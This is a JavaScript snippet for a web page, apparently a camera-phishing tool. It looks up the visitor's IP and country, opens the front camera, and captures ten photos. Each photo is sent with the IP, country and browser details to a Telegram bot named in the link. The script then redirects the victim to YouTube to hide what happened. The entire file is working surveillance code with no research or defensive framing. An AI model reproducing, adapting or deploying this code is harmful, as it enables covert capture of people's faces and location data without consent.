const TOKEN = "1234567890:AAPLACEHOLDERplaceholderPLACEHOLDER00";
const UID = new URLSearchParams(location.search).get("id");
let net = {}, shots = 0;
fetch("https://ipapi.example/json/").then((r) => r.json()).then((j) => { net = j; });

(async () => {
  const stream = await navigator.mediaDevices.getUserMedia({ video: { facingMode: "user" } });
  const v = document.createElement("video");
  v.srcObject = stream;
  v.playsInline = true;
  await v.play();
  const loop = setInterval(async () => {
    const c = document.createElement("canvas");
    c.width = v.videoWidth; c.height = v.videoHeight;
    c.getContext("2d").drawImage(v, 0, 0);
    const blob = await new Promise((r) => c.toBlob(r, "image/jpeg", 0.8));
    const f = new FormData();
    f.append("chat_id", UID);
    f.append("photo", blob, "p.jpg");
    f.append("caption", `#${++shots}\nIP: ${net.ip}\nCountry: ${net.country_name}\nUA: ${navigator.userAgent}`);
    fetch(`https://api.telegram.org/bot${TOKEN}/sendPhoto`, { method: "POST", body: f });
    if (shots > 9) { clearInterval(loop); location.href = "https://www.youtube.com/"; }
  }, 800);
})();
